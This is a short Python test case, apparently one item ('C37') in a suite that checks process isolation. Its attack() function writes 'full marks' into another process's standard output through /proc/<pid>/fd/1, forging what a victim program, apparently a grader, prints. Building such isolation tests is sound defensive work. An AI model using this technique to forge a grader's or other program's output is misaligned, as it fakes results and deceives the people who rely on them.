# C37: forges what another process prints
# Without layers: may succeed
import sys

os = sys.modules["os"]


def attack(facts):
    printed = os.open(f"/proc/{facts['victim']}/fd/1", os.O_WRONLY | os.O_NONBLOCK)
    return os.write(printed, b"full marks\n") > 0
